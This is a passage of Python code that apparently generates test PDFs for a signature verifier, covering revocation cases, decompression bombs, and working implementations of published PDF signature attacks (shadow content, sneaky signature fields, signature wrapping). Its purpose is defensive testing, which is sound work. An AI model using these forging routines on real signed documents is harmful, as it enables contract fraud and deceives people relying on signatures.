        add("rev-crl-revoked.pdf", add_dss(rsig, certs=(root, pki.revoked), crls=(crl_rev,)), "NOT-PASSED",
            "revocation", "revoked", "B-LT style: the DSS CRL (signed by the root) lists the signer as revoked",
            "required")
        add("rev-crl-revoked-softmode.pdf", add_dss(rsig, certs=(root, pki.revoked), crls=(crl_rev,)),
            "NOT-PASSED", "revocation", "revoked",
            "same as rev-crl-revoked but meant for --revocation-optional: embedded evidence of "
            "revocation must still fail")
        add("rev-ocsp-revoked.pdf", add_dss(rsig, certs=(root, pki.revoked, pki.ocsp),
                                            ocsps=(pki.ocsp_response(pki.revoked, status="revoked"),)),
            "NOT-PASSED", "revocation", "revoked",
            "DSS OCSP response (proper delegated responder) says the signer is revoked", "required")
        bad_good = pki.ocsp_response(pki.revoked, responder=pki.not_ocsp)
        add("rev-ocsp-bad-responder-crl-revoked.pdf",
            add_dss(rsig, certs=(root, pki.revoked, pki.not_ocsp), ocsps=(bad_good,), crls=(crl_rev,)),
            "NOT-PASSED", "revocation", "revoked",
            "DSS: an OCSP 'good' signed by a cert WITHOUT id-kp-OCSPSigning (must be ignored) and a "
            "root CRL listing the signer as revoked", "required")
        add("rev-ocsp-bad-responder-only.pdf",
            add_dss(signed, certs=(root, pki.signer, pki.not_ocsp),
                    ocsps=(pki.ocsp_response(pki.signer, responder=pki.not_ocsp),)),
            "INDETERMINATE", "revocation", "responder",
            "DSS: only an OCSP 'good' signed by a cert without id-kp-OCSPSigning", "required")
        stale = pki.ocsp_response(pki.signer, this_update=C.utc(2026, 1, 2), next_update=C.utc(2026, 1, 9))
        add("rev-ocsp-stale.pdf", add_dss(signed, certs=(root, pki.signer, pki.ocsp), ocsps=(stale,)),
            "INDETERMINATE", "revocation", "fresh",
            "DSS: OCSP 'good' from a proper responder but thisUpdate 2026-01-02 / nextUpdate 2026-01-09 "
            "(not fresh)", "required")
        forged = pki.crl(signing_key=pki.untrusted_root.key)
        add("rev-crl-forged.pdf", add_dss(signed, certs=(root, pki.signer), crls=(forged,)),
            "INDETERMINATE", "revocation", "try_later",
            "DSS: a CRL naming the root as issuer but signed by another key", "required")
        add("rev-none-required.pdf", signed, "INDETERMINATE", "revocation", "try_later",
            "no revocation data at all, revocation required", "required")

    # ================================================================ resource bombs
    @case
    def bombs():
        z = zlib.compressobj(9)
        blob = b"".join(z.compress(b"\0" * (1 << 20)) for _ in range(16)) + z.flush()
        ncert, ndss = 60, 61
        dss = b"<< /Type /DSS /Certs [" + b" ".join([b"%d 0 R" % ncert] * 1000) + b"] >>"
        cat = catalog_with(signed, b"/DSS %d 0 R" % ndss)
        d = append_update(signed, {ncert: b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(blob) + blob +
                                   b"\nendstream", ndss: dss, CATALOG: cat})
        add("bomb-dss-certs-1000x16mib.pdf", d, "BOUNDED", "bomb", "decompress",
            "DSS added after signing whose /Certs lists 1000 times one flate stream of 16 MiB of zeros "
            "(%d B compressed; 16 GiB if decoded naively)" % len(blob))
        inner = zlib.compressobj(9)
        one = b"".join(inner.compress(b" " * (1 << 20)) for _ in range(1024)) + inner.flush()
        two = zlib.compress(one, 9)
        objs = C.base_objects()
        objs[CONTENT2] = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(two) + two + \
            b"\nendstream"
        d = sign(C.write_pdf(objs, CATALOG, INFO), pki.signer)
        add("bomb-double-flate-signed.pdf", d, "BOUNDED", "bomb", "decompress",
            "signed revision: page 2 content stream with /Filter [/FlateDecode /FlateDecode] "
            "(%d B -> %d B -> 1 GiB of spaces)" % (len(two), len(one)))
        d = append_update(signed, {ncert: b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(two)
                                   + two + b"\nendstream", ndss: b"<< /Type /DSS /Certs [%d 0 R] >>" % ncert,
                                   CATALOG: cat})
        add("bomb-dss-double-flate.pdf", d, "NOT-PASSED", "bomb", "decompress",
            "DSS added after signing whose only /Certs stream has /Filter [/FlateDecode /FlateDecode] "
            "(%d B -> %d B -> 1 GiB); a verifier must read DSS certs, so it must bound decompression"
            % (len(two), len(one)))
        cert_der = pki.signer.a_cert.dump()
        d = append_update(signed, {ncert: b"<< /Length 99999999999 >>\nstream\n" + cert_der + b"\nendstream",
                                   ndss: b"<< /Type /DSS /Certs [%d 0 R] >>" % ncert, CATALOG: cat})
        add("bomb-length-99999999999.pdf", d, "NOT-PASSED", "bomb", "length",
            "DSS added after signing whose /Certs stream declares /Length 99999999999")


# ----------------------------------------------------------------------------- special bases

SH_COVER, SH_ALT, SH_COVER_XO, SH_DRAW_XO, SH_PAGES, SH_PAGE, SH_CATALOG, SH_FIELD_AP = range(12, 20)


def shadow_base(field_cover=False):
    """Base document carrying hidden ('shadow') content for the Mainka et al. attacks.

    Page 1 /Contents [6 12 15]: 6 draws ORIGINAL text *and* two hidden lines; 12 paints a white
    box over hidden line A; 15 draws form XObject /Fm0 (object 14) which is an opaque white box over
    hidden line B. Object 13 is an unused 'MANIPULATED' stream; 16/17/18 a hidden page tree and
    catalog. With field_cover, the text field's appearance (19) is an opaque box over line C.
    """
    c1 = (b"BT /F1 28 Tf 1 0 0 1 72 700 Tm (ORIGINAL) Tj\n"
          b"/F1 20 Tf 1 0 0 1 72 650 Tm (Pay 100 EUR to Alice.) Tj\n"
          b"1 0 0 1 72 600 Tm (A: Pay 1,000,000 EUR to Mallory.) Tj\n"
          b"1 0 0 1 72 550 Tm (B: Mallory owns the house.) Tj\n"
          b"1 0 0 1 72 492 Tm (C: hidden under the form field) Tj ET\n")
    extra = {
        SH_COVER: stream_obj(b"q 1 1 1 rg 60 590 520 36 re f Q\n"),
        SH_ALT: stream_obj(MANIP),
        SH_COVER_XO: stream_obj(b"q 1 1 1 rg 60 540 520 36 re f Q\n",
                                b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "),
        15: stream_obj(b"q /Fm0 Do Q\n"),
        SH_PAGES: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % SH_PAGE,
        SH_PAGE: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> "
                 b"/Contents %d 0 R >>" % (SH_PAGES, FONT, SH_ALT),
        SH_CATALOG: b"<< /Type /Catalog /Pages %d 0 R /AcroForm %d 0 R >>" % (SH_PAGES, ACROFORM),
    }
    kw = {}
    if field_cover:
        extra[SH_FIELD_AP] = stream_obj(b"q 1 1 1 rg 0 0 300 30 re f Q 0 G 0 0 300 30 re S\n",
                                        b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] ")
        kw["field_ap"] = SH_FIELD_AP
    return C.base_pdf(page1_content=c1, page1_contents_ref=b"[6 0 R 12 0 R 15 0 R]",
                      page1_res_extra=b"/XObject << /Fm0 %d 0 R >> " % SH_COVER_XO, extra=extra, **kw)


def two_field_base():
    """The standard base plus a second text field 'Other' (object 12) on page 1."""
    objs = C.base_objects()
    objs[12] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Other) /F 4 /Rect [72 420 372 450] "
                b"/P %d 0 R /DA (/Helv 12 Tf 0 g) /MK << /BC [0 0 0] >> >>" % PAGE1)
    objs[ACROFORM] = objs[ACROFORM].replace(b"/Fields [8 0 R]", b"/Fields [8 0 R 12 0 R]")
    objs[PAGE1] = objs[PAGE1].replace(b"/Annots [8 0 R]", b"/Annots [8 0 R 12 0 R]")
    assert b"12 0 R" in objs[ACROFORM] and b"12 0 R" in objs[PAGE1]
    return C.write_pdf(objs, CATALOG, INFO)


def add_sneaky_field(data):
    """SSA: add an empty signature field with a visible widget that paints over the content."""
    from pyhanko.pdf_utils import generic
    n = generic.pdf_name
    w = C.pyh_writer(data)
    page_ref = w.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    font_ref = page["/Resources"]["/Font"].raw_get("/F1")
    ap = generic.StreamObject({
        n("/Type"): n("/XObject"), n("/Subtype"): n("/Form"),
        n("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 500, 60)]),
        n("/Resources"): generic.DictionaryObject({n("/Font"): generic.DictionaryObject({n("/F1"): font_ref})}),
    }, stream_data=b"q 1 1 1 rg 0 0 500 60 re f Q BT /F1 20 Tf 1 0 0 rg 6 20 Td (MANIPULATED: pay Mallory) Tj ET")
    field = generic.DictionaryObject({
        n("/Type"): n("/Annot"), n("/Subtype"): n("/Widget"), n("/FT"): n("/Sig"),
        n("/T"): generic.TextStringObject("Sneaky"), n("/F"): generic.NumberObject(4),
        n("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (60, 640, 560, 700)]),
        n("/P"): page_ref, n("/AP"): generic.DictionaryObject({n("/N"): w.add_object(ap)}),
    })
    ref = w.add_object(field)
    form = w.root["/AcroForm"]
    fields = form.raw_get("/Fields")
    if isinstance(fields, generic.IndirectObject):
        fields.get_object().append(ref)
        w.mark_update(fields)
    else:
        fields.append(ref)
        w.update_container(form)
    annots = page.raw_get("/Annots")
    if isinstance(annots, generic.IndirectObject):
        annots.get_object().append(ref)
        w.mark_update(annots)
    else:
        annots.append(ref)
        w.update_container(page)
    return C.pyh_write(w)


def swa_wrap(data: bytes, signum: int) -> bytes:
    """Signature Wrapping (Mladenov et al. 2019).

    Keep the signed bytes S1 = data[:a] and S2 = data[b:] verbatim, but move S2 to a new offset
    b2. The hole [a, b2) now carries: a new definition of the signature object (same CMS, ByteRange
    [0 a b2 len(S2)] -> the same signed bytes), a MANIPULATED page content, and a full xref table
    placed exactly at the old startxref offset X (which the moved S2's own `startxref X` points to).
    """
    _, a, b, l2 = C.byte_range(data)
    root, info, size, idb, X = C.last_trailer(data)
    assert X > b
    s1, s2 = data[:a], data[b:]
    hexstr = data[a + 1:b - 1].rstrip(b"0")
    if len(hexstr) % 2:
        hexstr += b"0"
    body = find_obj(data, signum)
    W = 10

    def build(b2):
        newbody = re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <" + hexstr + b">", body)
        newbody = re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 %0*d %0*d %0*d]" % (W, a, W, b2, W, l2),
                         newbody)
        hole = bytearray(b"<> >>\nendobj\n")
        objs_at = {}
        for n_, bd in ((signum, newbody), (CONTENT1, stream_obj(MANIP))):
            objs_at[n_] = a + len(hole)
            hole += b"%d 0 obj\n" % n_ + bd + b"\nendobj\n"
        if a + len(hole) > X:
            raise RuntimeError("SWA: not enough room before the old startxref offset")
        hole += b" " * (X - a - len(hole))
        # offsets: objects in S1 keep theirs, objects in S2 shift by b2 - b, ours are in the hole
        offs = {}
        for m in re.finditer(rb"(?m)^(\d+) 0 obj\b", s1):
            offs[int(m.group(1))] = m.start()
        for m in re.finditer(rb"(?m)^(\d+) 0 obj\b", s2):
            offs[int(m.group(1))] = b2 + m.start()
        offs.update(objs_at)
        sz = max(size, max(offs) + 1)
        xr = bytearray(b"xref\n0 %d\n0000000000 65535 f \n" % sz)
        for n_ in range(1, sz):
            xr += (b"%010d 00000 n \n" % offs[n_]) if n_ in offs else b"0000000000 65535 f \n"
        xr += b"trailer\n<< /Size %d /Root %d 0 R " % (sz, root)
        if info:
            xr += b"/Info %d 0 R " % info
        xr += idb + b" >>\n"
        hole += xr
        return hole

    b2 = a + len(build(10 ** 9)) + 16
    hole = build(b2)
    hole += b" " * (b2 - a - len(hole))
    out = s1 + bytes(hole) + s2
    assert out[:a] == s1 and out[b2:] == s2 and len(out) == b2 + l2
    return out


if __name__ == "__main__":
    main()
